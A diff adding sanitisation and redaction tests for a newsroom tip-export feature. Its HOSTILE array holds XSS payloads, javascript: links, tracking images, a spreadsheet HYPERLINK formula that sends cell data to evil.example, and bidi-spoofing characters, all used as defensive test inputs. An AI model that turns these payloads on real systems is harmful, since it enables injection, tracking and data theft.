@@ -1,0 +1,402 @@
+import { execFileSync } from 'node:child_process';
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { pathToFileURL } from 'node:url';
+import fc from 'fast-check';
+import { strFromU8, unzipSync } from 'fflate';
+import type { Nodes } from 'mdast';
+import { fromMarkdown } from 'mdast-util-from-markdown';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { utf8 } from '../../../src/crypto/bytes.ts';
+import { verify } from '../../../src/crypto/signature.ts';
+import { ready } from '../../../src/crypto/sodium.ts';
+import { burner } from '../../../src/desk/export/burn.ts';
+import { buildDocument, elsewhere, isWhole } from '../../../src/desk/export/documents.ts';
+import { html } from '../../../src/desk/export/html.ts';
+import { json } from '../../../src/desk/export/json.ts';
+import { markdown } from '../../../src/desk/export/markdown.ts';
+import { Manifest } from '../../../src/protocol/export.ts';
+import { parseJson } from '../../../src/protocol/schema.ts';
+import { TODAY } from '../../crypto/fixtures.ts';
+import { browserWith, describeInBrowser, shot, visitor } from '../../setup/browser.ts';
+import { caseOf, choose, type House, house, passages, STORY, zip } from './fixtures.ts';
+
+let where: House;
+beforeAll(async () => {
+  await ready();
+  where = house();
+});
+
+/** A text as it would look in every encoding that some program might have put it in. */
+function encodings(text: string): Buffer[] {
+  const bytes = Buffer.from(text);
+  const base64 = [0, 1, 2].map((shift) => {
+    const whole = Buffer.concat([Buffer.alloc(shift), bytes])
+      .toString('base64')
+      .replace(/=+$/, '');
+    // The first and last characters mix with what stands beside.
+    return whole.slice(shift === 0 ? 0 : shift + 1, -1);
+  });
+  const json = JSON.stringify(text).slice(1, -1);
+  const escaped = Array.from(text, (one) => `\\u${one.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
+  const entities = [10, 16].map((radix) =>
+    Array.from(text, (one) => `&#${radix === 16 ? 'x' : ''}${(one.codePointAt(0) ?? 0).toString(radix)};`).join(''),
+  );
+  const written = [
+    text,
+    text.toLowerCase(),
+    text.toUpperCase(),
+    json,
+    JSON.stringify(json).slice(1, -1),
+    escaped,
+    ...entities,
+    text
+      .replaceAll('&', '&amp;')
+      .replaceAll('<', '&lt;')
+      .replaceAll('>', '&gt;')
+      .replaceAll('"', '&quot;')
+      .replaceAll("'", '&#39;'),
+    encodeURIComponent(text),
+    encodeURIComponent(text).toLowerCase(),
+    bytes.toString('hex'),
+    bytes.toString('hex').toUpperCase(),
+    ...base64,
+    ...base64.map((one) => one.replaceAll('+', '-').replaceAll('/', '_')),
+  ];
+  const utf16 = Buffer.from(text, 'utf16le');
+  return [...new Set(written)].map((one) => Buffer.from(one)).concat([utf16, Buffer.from(utf16).swap16()]);
+}
+
+/** Where, in the ZIP or in any file of it, the text is. */
+function found(bytes: Uint8Array, text: string): string[] {
+  const places: [string, Uint8Array][] = [['the ZIP', bytes], ...Object.entries(unzipSync(bytes))];
+  return places
+    .filter(([, one]) => encodings(text).some((needle) => Buffer.from(one).includes(needle)))
+    .map(([name]) => name);
+}
+
+describe('an export', () => {
+  it('holds texts, notes, originals and the way of the case when nothing is left out', async () => {
+    const one = caseOf(where, STORY);
+    const { bytes, made } = await zip(where, [one], choose({ contact: true }));
+    const files = unzipSync(bytes);
+    const document = JSON.parse(strFromU8(files['export.json'] ?? new Uint8Array()));
+    expect(document.cases[0].tips.map(({ text }: { text: string }) => text)).toEqual(
+      STORY.tips.map(({ text }) => text),
+    );
+    for (const { original } of document.cases[0].tips) expect(verify(original, 'tip')).toContain('quiet.heron.42');
+    for (const { signed } of document.cases[0].history) expect(verify(signed, 'event')).not.toBeNull();
+    expect(document.cases[0].custody.map(({ day, what }: { day: string; what: string }) => [day, what])).toEqual([
+      ['2026-11-12', 'received'],
+      ['2026-11-13', 'received'],
+      ['2026-11-14', 'opened'],
+      ['2026-11-20', 'kept'],
+      ['2026-11-20', 'kept'],
+      ['2026-11-21', 'shared'],
+    ]);
+    const manifest = parseJson(Manifest, made.text);
+    expect([made.count, manifest?.files.length]).toEqual([Object.keys(files).length, Object.keys(files).length - 4]);
+    expect(manifest).toMatchObject({ exported: TODAY, left: { contact: false, notes: false, passages: 0 } });
+    for (const form of ['export.md', 'export.html'] as const) {
+      expect(strFromU8(files[form] ?? new Uint8Array())).toContain('quiet.heron.42');
+    }
+  });
+
+  it('leaves contact details out unless they are chosen', async () => {
+    const one = caseOf(where, {
+      ...STORY,
+      notes: ['Reached her: +44 (7700) 900-123.', 'On Signal she is QUIET.HERON.42 now.'],
+    });
+    const { bytes } = await zip(where, [one]);
+    for (const secret of ['quiet.heron.42', '7700 900123', '900123', '7700', 'Signal: quiet'])
+      expect([secret, found(bytes, secret)]).toEqual([secret, []]);
+    expect(found((await zip(where, [one], choose({ contact: true }))).bytes, 'quiet.heron.42')).toContain(
+      'export.html',
+    );
+  });
+
+  it('holds a passage that was taken out nowhere, in no encoding, whoever quoted it', async () => {
+    const words = ['Ilse Marquardt; she signed the log', 'Dock 7', 'naïve café <"&\'> 東京 🌷'];
+    const story = {
+      tips: [
+        { text: `Ask ${words[0]} at ${words[1]}. Also: ${words[2]}!`, contact: '' },
+        { text: `Again: ${words[0]?.toUpperCase()}, ${words[2]?.normalize('NFD')}.`, contact: words[1] ?? '' },
+      ],
+      notes: [`She said:\n\n> Ilse  Marquardt; she\nsigned the log\n\nat dock 7`, `\`${words[2]}\``],
+      tags: ['dock 7', 'harbour'],
+    };
+    const one = caseOf(where, story);
+    const another = caseOf(where, { tips: [{ text: `From elsewhere: ${words[1]}`, contact: '' }] }, 2);
+    const choice = choose({ contact: true, passages: passages(one, words) });
+    const { bytes } = await zip(where, [one, another], choice);
+    for (const word of words) expect([word, found(bytes, word)]).toEqual([word, []]);
+    for (const part of ['Marquardt', 'signed the log', 'café', '東京', 'Dock'])
+      expect([part, found(bytes, part)]).toEqual([part, []]);
+    // The search would find it: with nothing taken out it is everywhere.
+    const whole = await zip(where, [one, another], choose({ contact: true }));
+    for (const word of words.slice(0, 2)) {
+      expect(found(whole.bytes, word)).toEqual(['the ZIP', 'export.html', 'export.md', 'export.json']);
+    }
+    expect(found(whole.bytes, words[2] ?? '')).toContain('export.html');
+    const told = elsewhere([one, another], choice, where.occasion);
+    expect(told).toEqual({ notes: 2, tips: 2, tags: 1, listed: [] });
+  });
+
+  it('holds no signed original and no earlier version of anything once something is left out', async () => {
+    const one = caseOf(where, { tips: [{ text: 'A secret word here.', contact: '' }], notes: ['a note'] });
+    const less = choose({ passages: passages(one, ['secret word']) });
+    for (const choice of [less, choose({ notes: false })]) {
+      expect(isWhole([one], choice)).toBe(false);
+      const written = json(buildDocument([one], choice, where.occasion));
+      expect(written).not.toContain('"sig"');
+      expect(written).not.toContain('"thread"');
+    }
+    expect(isWhole([one], choose())).toBe(true);
+    expect(json(buildDocument([one], choose(), where.occasion))).toContain('"sig"');
+    expect(json(buildDocument([one], choose({ originals: false }), where.occasion))).not.toContain('"sig"');
+  });
+
+  it('takes out whatever passage is marked, wherever it begins and ends', async () => {
+    const one = caseOf(where, { tips: [{ text: 'x', contact: '' }] });
+    const word = fc
+      .stringMatching(/^[a-zA-Zà-ü0-9 .+*?$^()[\]{}|\\/<>&"'-]{4,24}$/)
+      .filter((text) => /\w{3}/.test(text));
+    fc.assert(
+      fc.property(word, fc.string({ unit: 'grapheme' }), fc.string({ unit: 'grapheme' }), (secret, before, after) => {
+        const tip = one.tips[0];
+        if (tip === undefined) throw new Error('the fixture has a tip');
+        const text = `${before}${secret}${after}`;
+        const held = { case: { ...one.case, notes: one.case.notes, tags: [secret] }, tips: [{ ...tip, text }] };
+        const choice = choose({
+          passages: new Map([[tip.id, [{ start: before.length, end: before.length + secret.length }]]]),
+        });
+        const [left] = buildDocument([held], choice, where.occasion).cases;
+        expect(left?.tips[0]?.text).not.toContain(secret.trim());
+        expect(left?.tags[0]).not.toContain(secret.trim());
+      }),
+    );
+  });
+
+  it('tells which words stay because the newsroom’s signed list has them', () => {
+    const one = caseOf(where, { tips: [{ text: 'I met Ada Lindqvist.', contact: '' }] });
+    const choice = choose({ passages: passages(one, ['Ada Lindqvist']) });
+    expect(elsewhere([one], choice, where.occasion).listed).toEqual(['Ada Lindqvist']);
+  });
+
+  it('finds short words only as whole words, and punctuation not at all', () => {
+    const burn = burner({ passages: ['Ana', '…', 'of'], contacts: [] });
+    expect(burn('Ana told a manager of Banana often…')).toBe('█████ told a manager █████ Banana often…');
+  });
+
+  it('tells neither hour nor time zone in the ZIP', async () => {
+    const { bytes } = await zip(where, [caseOf(where, STORY)]);
+    const central = Buffer.from(bytes);
+    const times: number[] = [];
+    for (let at = central.indexOf('PK\u0001\u0002'); at >= 0; at = central.indexOf('PK\u0001\u0002', at + 1))
+      times.push(central.readUInt16LE(at + 12));
+    expect([times.length, new Set(times)]).toEqual([11, new Set([0])]);
+  });
+
+  it('streams further files and lists their sums', async () => {
+    const big = new Uint8Array(300_000).map((_, n) => n & 0xff);
+    async function* pieces() {
+      for (let at = 0; at < big.length; at += 65_536) yield big.subarray(at, at + 65_536);
+    }
+    async function* further() {
+      yield { path: 'files/01-photo.jpg', pieces: pieces() };
+      yield { path: 'files/02-empty.txt', pieces: (async function* () {})() };
+    }
+    const { bytes, made } = await zip(where, [caseOf(where, STORY)], choose(), { further: further() });
+    expect(Buffer.from(unzipSync(bytes)['files/01-photo.jpg'] ?? []).equals(big)).toBe(true);
+    expect(
+      parseJson(Manifest, made.text)
+        ?.files.slice(-2)
+        .map(({ path, bytes: size }) => [path, size]),
+    ).toEqual([
+      ['files/01-photo.jpg', 300_000],
+      ['files/02-empty.txt', 0],
+    ]);
+    const stop = new AbortController();
+    async function* endless() {
+      yield {
+        path: 'files/endless',
+        pieces: (async function* () {
+          for (;;) {
+            yield big;
+            stop.abort();
+          }
+        })(),
+      };
+    }
+    await expect(
+      zip(where, [caseOf(where, STORY)], choose(), { further: endless(), signal: stop.signal }),
+    ).rejects.toMatchObject({ name: 'AbortError' });
+    async function* bad() {
+      yield { path: '../x', pieces: pieces() };
+    }
+    await expect(zip(where, [caseOf(where, STORY)], choose(), { further: bad() })).rejects.toMatchObject({
+      code: 'malformed',
+    });
+  });
+});
+
+const HOSTILE = [
+  '<script>document.title="ran"</script><img src=x onerror="document.title=\'ran\'">',
+  '</div></article></main><iframe src="https://evil.example/"></iframe>',
+  '![x](https://evil.example/track.png) [click](javascript:alert(1)) [b]: data:text/html,x',
+  '~~~\n```\n# not a heading\n~~~~~~~~\n<b>x</b>',
+  '=HYPERLINK("https://evil.example/?"&A1,"x")\n+1+1\n@SUM(A1)',
+  '\u202egpj.exe\u202c \u2066x\u2069 \u001b[31mred\u0007 \u0000',
+  '<!--\n]]>\n<style>*{display:none}</style>',
+  '&lt;script&gt; &#106;avascript: java&#115;cript',
+  '<https://evil.example/> <javascript:alert(1)> https://evil.example/auto',
+  '[x](<javascript:alert(1)>) [y](\n javascript:alert(1)) [z][b]\n\n[b]: javascript:alert(2)\n[c]:\njavascript:alert(3)\n\n[c] ![c]',
+  '\\![x](https://evil.example/a.png) \\\\![x](https://evil.example/b.png) [![x](https://evil.example/c.png)](data:text/html,x)',
+];
+
+describe('hostile texts', () => {
+  const hostile = () =>
+    caseOf(where, {
+      tips: HOSTILE.map((text) => ({ text, contact: text.slice(0, 400) })),
+      notes: HOSTILE,
+      tags: HOSTILE.map((text) => text.slice(0, 40)),
+    });
+
+  it('become no markup in the Markdown', () => {
+    const tree = fromMarkdown(markdown(buildDocument([hostile()], choose({ contact: true }), where.occasion)));
+    const kinds = new Map<string, number>();
+    const urls: string[] = [];
+    const visit = (node: Nodes) => {
+      kinds.set(node.type, (kinds.get(node.type) ?? 0) + 1);
+      if ('url' in node) urls.push(node.url);
+      if ('children' in node) for (const child of node.children) visit(child);
+    };
+    visit(tree);
+    expect([kinds.get('html'), kinds.get('image'), kinds.get('imageReference')]).toEqual([
+      undefined,
+      undefined,
+      undefined,
+    ]);
+    expect(urls.filter((url) => !/^(https?:|mailto:)/.test(url))).toEqual([]);
+    const headings = tree.children.filter((node) => node.type === 'heading').length;
+    expect(headings).toBe(6);
+  });
+
+  it('show the characters that would hide or turn a text', () => {
+    const document = buildDocument([hostile()], choose({ contact: true }), where.occasion);
+    for (const written of [html(document), markdown(document)]) {
+      expect(written).not.toMatch(/[\u202a-\u202e\u2066-\u2069]|[^\P{Cc}\t\n]/u);
+      expect(written).toContain('U+202E');
+    }
+    expect(JSON.parse(json(document)).cases[0].tips[5].text).toBe(HOSTILE[5]);
+    expect(json(document)).not.toContain('<');
+  });
+
+  it('written by anybody else stay text as well', () => {
+    fc.assert(
+      fc.property(
+        fc.string({
+          unit: fc.constantFrom(...'<>&"\'![]()`~*_#\\/:\n xjavascripthttp-=.') as fc.Arbitrary<string>,
+          maxLength: 60,
+        }),
+        (text) => {
+          const one = caseOf(where, { tips: [{ text, contact: '' }], notes: [text] });
+          const document = buildDocument([one], choose(), where.occasion);
+          const visit = (node: Nodes): string[] => [
+            ...(node.type === 'html' || node.type.startsWith('image') ? [node.type] : []),
+            ...('url' in node && !/^(https?:|mailto:)/i.test(node.url) ? [node.url] : []),
+            ...('children' in node ? node.children.flatMap(visit) : []),
+          ];
+          expect(visit(fromMarkdown(markdown(document)))).toEqual([]);
+          expect(
+            html(document).match(
+              /<(?!\/?(?:!doctype|html|head|meta|title|style|body|header|main|footer|section|article|div|p|h[1-4]|dl|dt|dd|ol|ul|li|span|bdi|code|pre|em|strong|blockquote|br|hr)[ >])/gi,
+            ),
+          ).toBeNull();
+        },
+      ),
+      { numRuns: 300 },
+    );
+  });
+
+  it('do not stop the page when they are nested without end', () => {
+    const one = caseOf(where, {
+      tips: [{ text: 'x', contact: '' }],
+      notes: ['>'.repeat(5000), '['.repeat(5000), '- '.repeat(3000), '*'.repeat(9000)],
+    });
+    expect(html(buildDocument([one], choose(), where.occasion))).toContain('</html>');
+  });
+});
+
+describeInBrowser('the page of an export', () => {
+  const chromium = browserWith();
+  let folder: string;
+  beforeAll(() => {
+    folder = mkdtempSync(join(tmpdir(), 'flowerpot-page-'));
+  });
+  afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+  function put(name: string, text: string): string {
+    const path = join(folder, name);
+    writeFileSync(path, utf8(text));
+    return pathToFileURL(path).href;
+  }
+
+  it('runs nothing and asks nobody, whatever stands in it', async () => {
+    const one = caseOf(where, {
+      tips: HOSTILE.map((text) => ({ text, contact: text.slice(0, 400) })),
+      notes: HOSTILE,
+      tags: HOSTILE.map((text) => text.slice(0, 40)),
+    });
+    const { page, sent, complaints, context } = await visitor(await chromium());
+    const url = put('hostile.html', html(buildDocument([one], choose({ contact: true }), where.occasion)));
+    await page.goto(url);
+    await shot(page, 'export-hostile');
+    expect(await page.title()).toBe(`Export of ${TODAY}`);
+    expect(
+      await page.locator('script, img, iframe, a, link, form, object, embed, svg, [onerror], [style]').count(),
+    ).toBe(0);
+    expect([sent.map((request) => request.url), complaints]).toEqual([[url], []]);
+    expect(await page.getByText('<script>document.title="ran"</script>').count()).toBeGreaterThan(1);
+    // The policy holds even if markup had slipped through.
+    await page.evaluate(() => document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/x.png">'));
+    expect(complaints.join('\n')).toContain('Content Security Policy');
+    await context.close();
+  });
+
+  it('reads well on a screen, a phone and paper', async () => {
+    const arabic = 'وصلت الشحنة إلى الرصيف 7 قبل الفجر. اسألوا عن السجل.\n\nThe container number is MSKU 407.';
+    const one = caseOf(where, { ...STORY, tips: [...STORY.tips, { text: arabic, contact: '' }] });
+    const choice = choose({ passages: passages(one, ['Ilse Marquardt']) });
+    const built = buildDocument(
+      [one, caseOf(where, { tips: [{ text: '会议记录在附件里。', contact: '' }] }, 2)],
+      choice,
+      where.occasion,
+    );
+    const url = put('page.html', html(built));
+    for (const colorScheme of ['light', 'dark'] as const) {
+      for (const width of [1280, 360]) {
+        const { page, context } = await visitor(await chromium(), { colorScheme, viewport: { width, height: 800 } });
+        await page.goto(url);
+        await shot(page, `export-${colorScheme}-${width}`);
+        expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBe(0);
+        expect(await page.evaluate(() => getComputedStyle(document.body).maxWidth)).not.toBe('none');
+        const rtl = page.locator('.words').nth(2);
+        expect(await rtl.evaluate((element) => getComputedStyle(element).direction)).toBe('rtl');
+        await context.close();
+      }
+    }
+    const { page, context } = await visitor(await chromium());
+    await page.goto(url);
+    const pdf = await page.pdf({ format: 'A4', preferCSSPageSize: true });
+    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
+    const { SHOTS } = process.env;
+    if (SHOTS) {
+      mkdirSync(SHOTS, { recursive: true });
+      writeFileSync(join(SHOTS, 'export.pdf'), pdf);
+      execFileSync('pdftoppm', ['-r', '60', '-png', join(SHOTS, 'export.pdf'), join(SHOTS, 'export-print')]);
+    }
+    await context.close();
+  });
+});
